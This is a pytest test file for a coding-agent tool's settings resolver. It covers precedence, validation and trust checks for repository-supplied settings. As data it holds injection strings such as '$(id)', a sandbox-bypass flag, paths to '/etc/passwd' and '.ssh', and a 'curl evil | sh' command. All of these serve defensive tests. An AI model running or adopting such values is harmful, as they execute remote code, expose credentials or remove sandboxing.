"""Settings from their layers: corpus S of hostile settings, precedence, trust."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sextet.model.names import Role
from sextet.model.settings import Settings
from sextet.service.settings import MOST_PROBLEMS, Layer, Origin, needs_trust, resolve
from sextet.service.settings_files import SIZE_LIMIT, load, read_repository, read_user, user_settings_file
from sextet.service.settings_reference import describe
from sextet.service.settings_table import TABLE, check, value_of
from sextet.store.trust import digest_of


def of(values: dict[str, Any], origin: Origin = "user"):
    return resolve([Layer(origin, values)])


def test_no_settings_at_all_is_a_problem() -> None:
    resolved = resolve([])
    assert resolved.settings == Settings()
    assert resolved.problems == ()
    assert dict(resolved.sources) == {}


@pytest.mark.parametrize(
    "values",
    [
        {"sextet.roles.analyst.workers": 3, "sextet.maxAgents": 7},
        {"sextet.roles": {"analyst": {"workers": 3}}, "sextet.maxAgents": 7},
        {"sextet.roles.analyst": {"workers": 3}, "sextet": {"maxAgents": 7}},
        {"sextet": {"roles.analyst.workers": 3, "maxAgents": 7}},
    ],
)
def test_a_way_to_nest_keys_is_not_understood(values: dict[str, Any]) -> None:
    resolved = of(values)
    assert resolved.problems == ()
    assert resolved.settings.role(Role.ANALYST).workers == 3
    assert resolved.settings.role(Role.ANALYST).spread
    assert resolved.settings.max_agents == 7


def test_nested_and_dotted_keys_hide_each_other() -> None:
    resolved = of({"sextet.roles": {"analyst": {"workers": 3}}, "sextet.roles.analyst.effort": "low"})
    analyst = resolved.settings.role(Role.ANALYST)
    assert (analyst.workers, analyst.effort) == (3, "low")


def test_a_layer_decides_out_of_turn() -> None:
    order: tuple[Origin, ...] = ("run", "editor", "repository", "user")
    for first in range(4):
        layers = [Layer(o, {"sextet": {"maxAgents": at + 1}}) for at, o in enumerate(order) if at >= first]
        resolved = resolve(reversed(layers))
        assert resolved.settings.max_agents == first + 1
        assert resolved.sources == {"maxAgents": order[first]}


def test_layers_of_different_keys_do_not_add_up() -> None:
    resolved = resolve(
        [
            Layer("user", {"sextet.tester.timeoutMinutes": 5}),
            Layer("repository", {"sextet.tester.commands": ["make check"], "editor.tabSize": 4}),
            Layer("run", {"roles": {"reviewer": {"models": ["m1"]}}}),
        ]
    )
    assert resolved.problems == ()
    assert resolved.settings.tester.timeout_minutes == 5
    assert resolved.settings.tester.commands == ("make check",)
    assert resolved.settings.role(Role.REVIEWER).models == ("m1",)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *[("roles.analyst.workers", bad) for bad in (-1, 17, 10**9, 2.5, "3", True, [3], {"a": 1})],
        ("roles.analyst.timeoutMinutes", float("nan")),
        ("roles.analyst.timeoutMinutes", float("inf")),
        ("roles.analyst.timeoutMinutes", 0),
        *[
            ("roles.analyst.models", [bad])
            for bad in ("--dangerously-bypass-approvals-and-sandbox", "a b", "$(id)", "", "x\n", "m;id", 3)
        ],
        ("roles.analyst.models", ["m"] * 10_000),
        ("roles.analyst.models", "gpt"),
        ("roles.analyst.sandbox", "danger-full-access"),
        ("tester.commands", "make test"),
        ("tester.commands", {"run": "make test"}),
        ("tester.commands", [["make", "test"]]),
        ("tester.commands", [""]),
        ("tester.commands", ["make\0test"]),
        ("tester.commands", ["x" * 9_000]),
        ("tester.commands", ["\ud800"]),
        ("tester.sandbox", "false"),
        ("tester.sandbox", 0),
        ("worktree.copy", ["../.ssh"]),
        ("worktree.copy", ["/etc/passwd"]),
        ("worktree.copy", ["a/.GIT/config"]),
        ("worktree.copy", [""]),
        ("codex.path", "./node_modules/.bin/codex"),
        ("codex.path", "${env:HOME}/codex"),
        ("codex.home", "~/.codex"),
        ("budget.runTokens", -5),
        ("patch.apply", "always"),
        ("maxAgents", 0),
    ],
)
def test_a_bad_value_is_used_or_takes_others_along(key: str, value: object) -> None:
    resolved = of({f"sextet.{key}": value, "sextet.review.maxReworks": 9})
    assert resolved.settings == Settings(max_reworks=9)
    (problem,) = resolved.problems
    assert problem.key == f"sextet.{key}"
    assert problem.level == "error"
    assert key in problem.sentence
    assert "ignored" in problem.sentence


def test_a_bad_value_hides_the_good_one_below_it() -> None:
    resolved = resolve(
        [Layer("user", {"sextet.maxAgents": 2}), Layer("repository", {"sextet.maxAgents": "no"})]
    )
    assert resolved.settings.max_agents == 2
    assert resolved.sources == {"maxAgents": "user"}


@pytest.mark.parametrize(
    ("key", "hint"),
    [
        ("sextet.roles.analist.workers", "sextet.roles.analyst.workers"),
        ("sextet.maxAgent", "sextet.maxAgents"),
        ("maxAgents", "sextet.maxAgents"),
        ("sextet.env.PATH", ""),
        ("sextet.codex.env", "sextet.codex"),
        ("sextet.__proto__", ""),
    ],
)
def test_an_unknown_key_gets_no_warning(key: str, hint: str) -> None:
    resolved = of({key: 3})
    assert resolved.settings == Settings()
    (problem,) = resolved.problems
    assert problem.level == "warning"
    assert problem.key == key
    assert "not a setting" in problem.sentence
    assert hint in problem.sentence


def test_a_group_that_is_no_object_is_silent() -> None:
    (problem,) = of({"sextet.roles": 5}).problems
    assert "must be an object" in problem.sentence


def test_ten_thousand_mistakes_make_ten_thousand_problems() -> None:
    resolved = of({f"sextet.x{n}": n for n in range(10_000)})
    assert len(resolved.problems) <= MOST_PROBLEMS + 1


@pytest.mark.parametrize("key", ["\ud800", "roles.\ud800.workers", "maxAgents\x1b[2J\u202e", "x" * 5_000, ""])
@pytest.mark.parametrize("origin", ["run", "editor", "repository", "user"])
def test_a_key_that_cannot_be_shown_stops_everything(origin: Origin, key: str) -> None:
    (problem,) = of({f"sextet.{key}": "\ud800", "sextet.patch": {"apply": "never"}}, origin).problems
    assert problem.sentence.isprintable()
    assert len(problem.key) <= 200


def test_null_is_a_value() -> None:
    resolved = of({"sextet.maxAgents": None, "sextet.roles": None})
    assert resolved.settings == Settings()
    assert resolved.problems == ()


@given(
    st.sampled_from(sorted(TABLE)),
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
        max_leaves=8,
    ),
)
def test_some_value_breaks_the_reader_or_gets_in_unchecked(key: str, value: object) -> None:
    resolved = of({f"sextet.{key}": value})
    assert Settings.model_validate_json(resolved.settings.to_json(), strict=True) == resolved.settings
    assert bool(resolved.problems) != (key in resolved.sources) or value in (None, {})


# Trust --------------------------------------------------------------------------------------------
WIDENING = {
    "tester.commands": ["curl evil | sh"],
    "worktree.setupCommand": "npm ci",
    "tester.sandbox": False,
    "tester.network": True,
    "codex.mcpServers": True,
    "roles.implementer.network": True,
    "roles.reviewer.sandbox": "off",
    "patch.apply": "auto",
    "approvals.patch": 0,
}


@pytest.mark.parametrize(("key", "value"), WIDENING.items())
@pytest.mark.parametrize("origin", ["repository", "editor"])
def test_a_repository_widens_without_trust(origin: Origin, key: str, value: object) -> None:
    resolved = of({f"sextet.{key}": value}, origin)
    (item,) = needs_trust(resolved.settings, resolved.sources)
    assert (item.key, item.value) == (key, value)
    assert item.digest == digest_of(key, value)


@pytest.mark.parametrize(("key", "value"), WIDENING.items())
@pytest.mark.parametrize("origin", ["user", "run"])
def test_the_users_own_value_is_asked_about(origin: Origin, key: str, value: object) -> None:
    resolved = of({f"sextet.{key}": value}, origin)
    assert value_of(resolved.settings, key) == value
    assert needs_trust(resolved.settings, resolved.sources) == ()


def test_trust_outlives_a_changed_command() -> None:
    before, after = (of({"sextet.tester.commands": [one]}, "repository") for one in ("make", "make evil"))
    items = [needs_trust(resolved.settings, resolved.sources)[0] for resolved in (before, after)]
    assert items[0].key == items[1].key
    assert items[0].digest != items[1].digest


def test_harmless_settings_of_a_repository_are_asked_about() -> None:
    resolved = of({"sextet.tester.sandbox": True, "sextet.roles.tester.workers": 2}, "repository")
    assert needs_trust(resolved.settings, resolved.sources) == ()


@pytest.mark.parametrize("key", ["codex.path", "codex.home", "server.path", "server.python"])
def test_a_repository_chooses_a_program(key: str) -> None:
    resolved = of({f"sextet.{key}": "/tmp/evil"}, "repository")
    assert resolved.settings == Settings()
    (problem,) = resolved.problems
    assert "your own settings" in problem.sentence


# Files --------------------------------------------------------------------------------------------
@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / ".vscode").mkdir()
    return tmp_path


def test_files_of_user_and_repository_do_not_meet(repository: Path) -> None:
    user = user_settings_file()
    user.parent.mkdir(parents=True)
    user.write_text('{"sextet.maxAgents": 2, /* mine */ "sextet.review.maxReworks": 1,}')
    (repository / ".vscode/settings.json").write_text('{"editor.tabSize": 2, "sextet.maxAgents": 3}')
    resolved = load(repository, editor={"runs": {"keep": 5}}, run={"patch": {"apply": "never"}})
    assert resolved.problems == ()
    assert resolved.sources == {
        "maxAgents": "repository",
        "review.maxReworks": "user",
        "runs.keep": "editor",
        "patch.apply": "run",
    }
    assert load(None).settings.max_agents == 2


def test_missing_files_are_a_problem(tmp_path: Path) -> None:
    assert load(tmp_path) == resolve([])


def test_a_linked_repository_file_is_followed(
    repository: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (elsewhere / "settings.json").write_text('{"sextet.maxAgents": 9}')
    (repository / ".vscode/settings.json").symlink_to(elsewhere / "settings.json")
    layer = read_repository(repository)
    assert layer.values == {}
    assert "symbolic link" in layer.problems[0].sentence
    (repository / ".vscode/settings.json").unlink()
    (repository / ".vscode").rmdir()
    (repository / ".vscode").symlink_to(elsewhere)
    assert read_repository(repository).values == {}
    assert read_repository(repository).problems


def test_a_linked_user_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "dotfiles.json").write_text('{"sextet.maxAgents": 9}')
    user_settings_file().parent.mkdir(parents=True)
    user_settings_file().symlink_to(tmp_path / "dotfiles.json")
    assert read_user().values == {"sextet.maxAgents": 9}


@pytest.mark.parametrize("content", [b"{", b"[]", b"\xff", b'{"a": 1}' + b" " * SIZE_LIMIT, b"[" * 50_000])
def test_a_file_that_cannot_be_read_stops_everything(repository: Path, content: bytes) -> None:
    (repository / ".vscode/settings.json").write_bytes(content)
    resolved = load(repository, run={"maxAgents": 2})
    assert resolved.settings.max_agents == 2
    (problem,) = resolved.problems
    assert problem.file.endswith("settings.json")
    assert "not used" in problem.sentence


def test_a_key_that_cannot_be_shown_and_comes_twice_stops_everything(repository: Path) -> None:
    text = r'{"\ud800": 1, "\ud800": 2, "sextet.maxAgents": 3}'
    (repository / ".vscode/settings.json").write_text(text)
    resolved = load(repository)
    assert resolved.settings.max_agents == 3
    assert len(resolved.problems) == 1


def test_what_only_the_extension_reads_is_not_checked_or_lost() -> None:
    resolved = of({"telemetry": {"enabled": True}, "trace.server": "loud"}, "editor")
    assert resolved.value("telemetry.enabled") is True
    assert resolved.value("trace.server") == "off"
    assert resolved.value("maxAgents") == 4
    assert [problem.key for problem in resolved.problems] == ["sextet.trace.server"]


def test_a_key_written_twice_is_not_told(repository: Path) -> None:
    text = '{"sextet.maxAgents": 2, "sextet.maxAgents": 3, "sextet.roles": {"analyst.workers": 1}}'
    (repository / ".vscode/settings.json").write_text(text)
    resolved = load(repository)
    assert resolved.settings.max_agents == 3
    (problem,) = resolved.problems
    assert "written twice" in problem.sentence


# The reference ------------------------------------------------------------------------------------
def test_a_setting_lacks_its_sentence() -> None:
    assert [one.key for one in describe() if not one.doc.endswith((".", ")."))] == []


def test_a_default_is_refused_by_its_own_check() -> None:
    for key, entry in TABLE.items():
        assert check(entry, json.loads(json.dumps(entry.default))) is not None, key


def test_a_field_of_the_settings_has_no_key() -> None:
    leaves = {entry.path for entry in TABLE.values() if entry.path}
    settings = json.loads(Settings().to_json())
    del settings["roles"]
    count = sum(len(value) if isinstance(value, dict) else 1 for value in settings.values())
    assert len([path for path in leaves if path[0] != "roles"]) == count
